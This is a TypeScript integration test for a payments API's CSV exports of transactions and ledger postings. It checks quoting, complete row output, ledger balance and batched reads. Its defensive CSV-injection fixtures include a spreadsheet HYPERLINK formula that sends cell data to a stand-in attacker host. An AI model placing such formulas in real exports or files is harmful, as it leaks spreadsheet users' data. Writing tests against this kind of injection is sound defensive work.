// CSV exports (CONTRACT 16): GET /transactions and GET /treasury/ledger with Accept: text/csv answer every row the
// filters match as RFC 4180 CSV, read back here with a CSV parser (csv-parse), not by splitting lines.
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { startApi, type ApiHarness } from '../helpers/harness.js';
import { bearer, makeBusiness, makeKey, writeHeaders } from '../helpers/factories.js';
import { BASE, createCustomer } from '../helpers/wallets.js';
import { startPools, type RunningPools } from '../helpers/workers.js';
import { expectLedgerSound, fund, kesBeneficiary, quote, untilStatus } from '../helpers/ramps.js';
import { getDs } from '../helpers/shared.js';
import { allRows } from '../../shared/db/pagination.js';
import { toMinor } from '../../shared/domain/money.js';

describe('CSV exports of transactions and the ledger', function () {
  this.timeout(60_000);
  let api: ApiHarness;
  let pools: RunningPools;
  let key: string;
  const ids: string[] = [];
  // Commas, quotes and a line break: RFC 4180 quoting must carry them through whole.
  const awkward = 'acme, "north"\nbranch';
  // What a spreadsheet would run (OWASP CSV injection): each must come back as text, a quote before it.
  const formulas = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', '+1+2', '-3+4', '@SUM(1,2)', '\t=1+1'];

  before(async () => {
    // A loaded machine prices slowly: the web process waits longer for the pricing pool's rate.
    api = await startApi({ env: { QUOTE_WAIT_MS: '10000' } });
    pools = await startPools(['pricing', 'settlement', 'providers', 'sandbox']);
    key = (await makeKey((await makeBusiness()).businessId, { rateLimit: 1_000_000 })).key;
    const customer = await createCustomer(api, key);
    await fund(api, key, customer.wallet.id, '200');
    const beneficiary = await kesBeneficiary(api, key);
    for (const reference of [awkward, 'plain-1', 'plain-2', ...formulas]) {
      const q = await quote(api, key, { direction: 'offramp', source_amount: '10', beneficiary_id: beneficiary });
      const res = await api.http.post(`${BASE}/offramps`).set(writeHeaders(key)).send({ quote_id: q.id, funding_source: { wallet_id: customer.wallet.id }, external_reference: reference });
      expect(res.status, JSON.stringify(res.body)).to.equal(201);
      ids.push(res.body.id);
    }
    for (const id of ids) await untilStatus(api, key, id, ['completed']);
  });
  after(async () => {
    await pools?.close();
    await api?.close();
  });
  afterEach(expectLedgerSound);

  const csv = (path: string) => api.http.get(`${BASE}${path}`).set(bearer(key)).set('Accept', 'text/csv').buffer(true).parse((res, done) => {
    let text = '';
    res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
    res.on('end', () => done(null, text));
  });

  it('transactions: every row the filters match (not one page), with the header, RFC 4180 quoting, CRLF and empty fields for nulls', async () => {
    const res = await csv('/transactions?limit=1&direction=offramp');
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.match(/^text\/csv/);
    const text = res.body as string;
    expect(text.split('\r\n')[0]).to.equal('id,direction,status,created_at,completed_at,source_amount,source_currency_or_asset,destination_amount,destination_currency_or_asset,' +
      'fee_provider,fee_platform,exchange_rate,beneficiary_id,wallet_id,external_reference,provider_reference,settlement_transaction_hash,destination_transaction_hash');
    const rows: Record<string, string>[] = parse(text, { columns: true });
    expect(rows.map((r) => r.id)).to.deep.equal([...ids].reverse()); // newest first, all of them despite limit=1
    const first = rows.find((r) => r.id === ids[0])!;
    expect(first.external_reference).to.equal(awkward);
    const json = (await api.http.get(`${BASE}/transactions/${ids[0]}`).set(bearer(key))).body;
    expect(first).to.deep.include({
      direction: 'offramp', status: 'completed', source_amount: json.source.amount, source_currency_or_asset: 'USDC', destination_amount: json.destination.amount,
      destination_currency_or_asset: 'KES', fee_provider: json.fees.provider, fee_platform: json.fees.platform, exchange_rate: json.exchange_rate,
      provider_reference: json.provider_reference, destination_transaction_hash: '',
    });
    expect(first.created_at).to.equal(json.created_at);
    // Formula-like references are written as text; the JSON answer keeps them exactly; amounts are never touched.
    formulas.forEach((formula, i) => {
      const row = rows.find((r) => r.id === ids[3 + i])!;
      expect(row.external_reference, formula).to.equal(`'${formula}`);
      expect(row.source_amount).to.match(/^\d+\.\d+$/);
    });
    expect((await api.http.get(`${BASE}/transactions/${ids[3]}`).set(bearer(key))).body.external_reference).to.equal(formulas[0]);
    expect(text).not.to.match(/(^|,)=HYPERLINK/m);
    // Filters apply as on the JSON list; JSON stays the default.
    expect(parse((await csv('/transactions?direction=onramp')).body as string, { columns: true })).to.deep.equal([]);
    expect((await api.http.get(`${BASE}/transactions`).set(bearer(key))).headers['content-type']).to.match(/json/);
  });

  it('the ledger: one row per posting, and each entry\'s rows sum to zero per asset', async () => {
    const rows: Record<string, string>[] = parse((await csv('/treasury/ledger')).body as string, { columns: true });
    expect(Object.keys(rows[0])).to.deep.equal(['entry_id', 'created_at', 'kind', 'reference', 'account', 'asset', 'amount']);
    const entries = new Map<string, bigint>();
    for (const r of rows) entries.set(`${r.entry_id}/${r.asset}`, (entries.get(`${r.entry_id}/${r.asset}`) ?? 0n) + toMinor(r.amount.replace(/^-/, ''), 6) * (r.amount.startsWith('-') ? -1n : 1n));
    expect([...entries.values()].every((sum) => sum === 0n)).to.equal(true);
    expect(rows.some((r) => r.kind === 'sandbox_funding')).to.equal(true);
    // Signed amounts stay numbers: a debit is "-10.00", never "'-10.00".
    expect(rows.some((r) => r.amount.startsWith('-'))).to.equal(true);
    expect(rows.every((r) => /^-?\d+\.\d+$/.test(r.amount)), 'amounts are plain signed decimals').to.equal(true);
    expect(rows.filter((r) => r.kind === 'offramp_payout').length).to.be.greaterThan(0);
  });

  it('an export reads in keyset batches one after another, never the whole list at once', async () => {
    const ds = await getDs();
    const [{ business_id: businessId }] = await ds.query(`SELECT business_id FROM transactions WHERE id = $1`, [ids[0]]);
    const batches: number[] = [];
    const spec = { columns: 't.id', from: 'transactions t', alias: 't', where: ['t.business_id = $1', `t.environment = 'sandbox'`], params: [businessId] };
    const seen: string[] = [];
    for await (const id of allRows<{ id: string; cursor_ts: string }, string>(ds, spec, (rows) => (batches.push(rows.length), rows.map((r) => r.id)), 3)) seen.push(id);
    expect(seen).to.deep.equal([...ids].reverse());
    expect(batches).to.deep.equal([3, 3, 2]);
  });
});
